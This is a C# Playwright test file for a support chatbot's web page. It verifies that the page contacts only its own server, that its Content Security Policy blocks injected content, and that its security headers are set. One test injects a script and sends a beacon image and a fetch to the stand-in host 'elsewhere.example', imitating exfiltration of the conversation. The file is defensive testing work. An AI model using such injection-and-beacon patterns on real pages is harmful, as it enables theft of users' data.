using SupportBot.Browser.Tests.Browsing;
using static Microsoft.Playwright.Assertions;

namespace SupportBot.Browser.Tests;

/// <summary>The page asks this server, nobody else; and the browser sees to it.</summary>
[Collection(InTheBrowser.Name)]
public sealed class PolicyTests(Browsers browsers)
{
    [BrowserFact]
    public async Task Nothing_is_asked_of_anyone_else_and_nothing_is_forbidden()
    {
        await using var visit = await browsers.VisitAsync();
        await visit.OpenAsync();
        await visit.AskAsync("what are the side effects of hormone therapy");
        await visit.Citation.ClickAsync();
        await visit.CloseSourceAsync();
        await visit.Button("This helped").ClickAsync();
        await visit.Button("Cancel").ClickAsync();
        await visit.Page.ReloadAsync();
        await visit.ConnectedAsync();
        await Expect(visit.Asked).ToHaveCountAsync(1);

        var here = browsers.Bot.Address.Authority;
        Assert.Contains(visit.Requests, url => url.StartsWith($"ws://{here}/v3/directline/", StringComparison.Ordinal));
        Assert.DoesNotContain(visit.Requests, url => new Uri(url) is { Scheme: not "data" and not "blob" } asked && asked.Authority != here);
        Assert.Empty(visit.Complaints);
    }

    [BrowserFact]
    public async Task A_script_that_someone_slipped_in_does_not_run()
    {
        await using var visit = await browsers.VisitAsync();
        await visit.OpenAsync();

        await visit.Page.EvaluateAsync("() => { const script = document.createElement('script'); script.textContent = 'window.slippedIn = true'; "
            + "document.body.append(script); }");
        await visit.Page.EvaluateAsync("() => { new Image().src = 'https://elsewhere.example/?what-was-said'; return "
            + "fetch('https://elsewhere.example/').catch(() => {}); }");

        Assert.False(await visit.Page.EvaluateAsync<bool>("() => Boolean(window.slippedIn)"));
        Assert.All(["script-src", "img-src", "connect-src"], directive => Assert.Contains(
            visit.Complaints, complaint =>
                complaint.Contains("Content Security Policy", StringComparison.Ordinal) && complaint.Contains(directive, StringComparison.Ordinal)));
    }

    [BrowserFact]
    public async Task The_document_is_stored_nowhere_and_its_files_for_good()
    {
        await using var visit = await browsers.VisitAsync();
        var document = await visit.Page.GotoAsync($"{browsers.Bot.Address}");
        var headers = await document!.AllHeadersAsync();
        var bundle = await visit.Page.EvaluateAsync<string>("() => document.querySelector('script[src*=webchat]').src");
        var file = await visit.Context.APIRequest.GetAsync(bundle, new() { Headers = [new("Accept-Encoding", "gzip")] });

        Assert.Equal("no-store", headers["cache-control"]);
        Assert.Equal("no-referrer", headers["referrer-policy"]);
        Assert.Equal("nosniff", headers["x-content-type-options"]);
        Assert.Equal("DENY", headers["x-frame-options"]);
        Assert.Contains("frame-ancestors 'none'", headers["content-security-policy"]);
        Assert.Equal("max-age=31536000, immutable", file.Headers["cache-control"]);
        Assert.Equal("gzip", file.Headers["content-encoding"]);
        Assert.InRange(long.Parse(file.Headers["content-length"], System.Globalization.CultureInfo.InvariantCulture), 500_000, 1_000_000);
    }
}
